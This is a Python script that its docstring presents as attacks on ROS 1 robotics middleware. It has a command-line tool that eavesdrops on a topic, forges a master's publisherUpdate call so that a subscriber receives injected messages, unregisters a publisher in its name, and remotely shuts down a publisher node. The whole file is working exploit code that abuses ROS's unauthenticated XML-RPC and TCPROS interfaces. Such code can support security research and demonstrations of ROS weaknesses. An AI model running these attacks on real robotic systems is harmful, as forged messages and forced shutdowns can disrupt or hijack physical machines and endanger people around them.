"""Attacks on ROS 1 that need nothing but its own interfaces: ros1.py read|stand-between|unregister|shutdown TOPIC MASTER OWN_ADDRESS.

read            asks the master who publishes, and the publisher for the topic: nobody asks who asks
stand-between   tells the subscriber, in the master's name, that we are its only publisher, and sends it forged messages
unregister      tells the master, in the publisher's name, that it publishes no more, and all later subscribers find nobody
shutdown        tells the publisher's node to end
"""

import itertools
import signal
import socket
import socketserver
import struct
import sys
import threading
import time
import xmlrpc.client
import xmlrpc.server

FIRST_FORGED = 1_000_000_000
OWN_NAME = "/stranger"


def nodes_of(master, topic):
    """Waits until the topic has both ends, and returns the names of publisher and subscriber."""
    while True:
        publishers, subscribers, _ = master.getSystemState(OWN_NAME)[2]
        ends = [dict((name, nodes) for name, nodes in side).get(topic) for side in (publishers, subscribers)]
        if all(ends):
            return ends[0][0], ends[1][0]
        time.sleep(0.05)


def read_exactly(connection, length):
    data = b""
    while len(data) < length:
        part = connection.recv(length - len(data))
        if not part:
            raise EOFError
        data += part
    return data


def read_block(connection):
    return read_exactly(connection, struct.unpack("<I", read_exactly(connection, 4))[0])


def header(**fields):
    lines = [f"{key}={value}".encode() for key, value in fields.items()]
    block = b"".join(struct.pack("<I", len(line)) + line for line in lines)
    return struct.pack("<I", len(block)) + block


def fields_of(block):
    fields = {}
    while block:
        (length,) = struct.unpack_from("<I", block)
        key, _, value = block[4 : 4 + length].decode().partition("=")
        fields[key] = value
        block = block[4 + length :]
    return fields


def subscribe(publisher_uri, topic):
    """A connection to the publisher, and what it says of the topic."""
    _, host, port = xmlrpc.client.ServerProxy(publisher_uri).requestTopic(OWN_NAME, topic, [["TCPROS"]])[2]
    connection = socket.create_connection((host, port))
    connection.sendall(header(callerid=OWN_NAME, topic=topic, md5sum="*", type="*", tcp_nodelay="1"))
    return connection, fields_of(read_block(connection))


class Forger:
    """A publisher that sends a message that it has read again and again, with numbers of its own."""

    def __init__(self, address, topic, kind, message):
        self.sent = 0
        forger = self

        class Handler(socketserver.BaseRequestHandler):
            def handle(self):
                fields_of(read_block(self.request))
                fields = {"callerid": OWN_NAME, "topic": topic, "latching": "0", "md5sum": kind["md5sum"], "type": kind["type"]}
                self.request.sendall(header(message_definition=kind.get("message_definition", ""), **fields))
                for number in itertools.count(FIRST_FORGED):
                    # The header of every message begins with a count and the stamp, which has the number.
                    forged = message[:4] + struct.pack("<II", number, 0) + message[12:]
                    self.request.sendall(struct.pack("<I", len(forged)) + forged)
                    forger.sent += 1
                    time.sleep(0.1)

        messages = socketserver.ThreadingTCPServer((address, 0), Handler)
        interface = xmlrpc.server.SimpleXMLRPCServer((address, 0), logRequests=False)
        interface.register_function(lambda *_: [1, "", ["TCPROS", address, messages.server_address[1]]], "requestTopic")
        self.uri = f"http://{address}:{interface.server_address[1]}/"
        for server in (messages, interface):
            threading.Thread(target=server.serve_forever, daemon=True).start()


def main():
    what, topic, master_address, address = sys.argv[1:]
    signal.signal(signal.SIGTERM, lambda *_: sys.exit())
    master = xmlrpc.client.ServerProxy(f"http://{master_address}:11311")
    while True:
        try:
            publisher, subscriber = nodes_of(master, topic)
            break
        except OSError:
            time.sleep(0.05)
    publisher_uri = master.lookupNode(OWN_NAME, publisher)[2]
    subscriber_uri = master.lookupNode(OWN_NAME, subscriber)[2]
    time.sleep(1)
    if what == "read":
        connection, kind = subscribe(publisher_uri, topic)
        count = 0
        try:
            while read_block(connection):
                count += 1
        finally:
            print(f"{count} messages read, of type {kind['type']}")
    elif what == "stand-between":
        connection, kind = subscribe(publisher_uri, topic)
        forger = Forger(address, topic, kind, read_block(connection))
        connection.close()
        xmlrpc.client.ServerProxy(subscriber_uri).publisherUpdate("/master", topic, [forger.uri])
        named = nodes_of(master, topic)[0]
        try:
            signal.pause()
        finally:
            print(f"{forger.sent} forged messages sent; the master still names {named}")
    elif what == "unregister":
        print(f"the master: {master.unregisterPublisher(publisher, topic, publisher_uri)[1]}")
    elif what == "shutdown":
        print(f"the publisher: {xmlrpc.client.ServerProxy(publisher_uri).shutdown(OWN_NAME, 'no reason')}")


if __name__ == "__main__":
    main()
